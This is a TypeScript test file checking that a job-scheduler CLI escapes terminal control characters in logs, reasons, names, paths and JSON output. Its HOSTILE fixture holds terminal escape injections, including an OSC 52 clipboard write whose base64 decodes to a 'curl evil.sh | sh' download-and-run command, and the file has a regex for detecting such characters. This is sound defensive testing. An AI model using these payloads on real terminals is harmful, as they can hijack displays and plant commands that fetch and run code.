import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { jobDetailFixture } from '../api/testing/job-detail.js';
import { jobView, type EventView, type JobDetail } from '../api/views.js';
import { jobRecordFixture, jobSpecFixture } from '../store/job-fixture.js';
import { terminalJson, terminalText } from '../util/printable.js';
import { renderJob, renderJobList } from './job-render.js';

/** What a hostile job writes: a title change, an OSC 52 clipboard write, a screen clear, cursor moves, a CSI (C1), a bidi override. */
const HOSTILE =
  '\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u001b[H\u001b[10A\u009b31m\r\u202eevil';
/** Any of the characters a terminal acts on. */
// eslint-disable-next-line no-control-regex
const ACTS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const record = jobRecordFixture({
  id: 'ab12',
  name: 'digits',
  state: 'failed',
  reason: `replica 0 exited 1: ${HOSTILE}`,
  spec: jobSpecFixture({ name: 'digits', command: ['python3', `train${HOSTILE}.py`], workdir: `/w${HOSTILE}` }),
});

function detail(): JobDetail {
  return jobDetailFixture(record, { rejection: { code: 'E_X', message: HOSTILE }, launch_wait: HOSTILE });
}

const event: EventView = {
  id: 1,
  job_id: 'ab12',
  at: '2026-01-01T10:00:00.000Z',
  actor: `user${HOSTILE}`,
  kind: 'failed',
  from_state: 'running',
  to_state: 'failed',
  reason: HOSTILE,
  data: { log_tail: `Traceback\n${HOSTILE}\nValueError: x\n`, log_rank: 0 },
};

describe('job output printed to a terminal (issue 47 item 8)', () => {
  it('goodput show escapes the log tail, reasons, events, the command and paths', () => {
    const text = renderJob(detail(), [event]);
    assert.doesNotMatch(text, ACTS);
    // Still readable: the escapes are visible, the tail keeps its lines.
    assert.match(text, /\\x1b\]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07/);
    assert.match(text, /^ {2}ValueError: x$/m);
    assert.match(text, /\\u202eevil/);
  });

  it('goodput ls escapes names, users and failure notes', () => {
    const table = renderJobList([{ ...jobView(record), name: `n${HOSTILE}`, user: `u${HOSTILE}` }], 0);
    assert.doesNotMatch(table, ACTS);
    assert.match(table, /\\x1b\[2J/);
  });

  it('--json output stays the same JSON value with no character a terminal acts on', () => {
    const value = { reason: HOSTILE, tail: `a\n${HOSTILE}` };
    const text = terminalJson(value);
    assert.doesNotMatch(text, ACTS);
    assert.deepEqual(JSON.parse(text), value);
  });

  it('terminalText keeps tabs and line feeds only when asked', () => {
    assert.equal(terminalText('a\tb\nc\u001b'), 'a\\x09b\\x0ac\\x1b');
    assert.equal(terminalText('a\tb\nc\r', true), 'a\tb\nc\\x0d');
  });
});
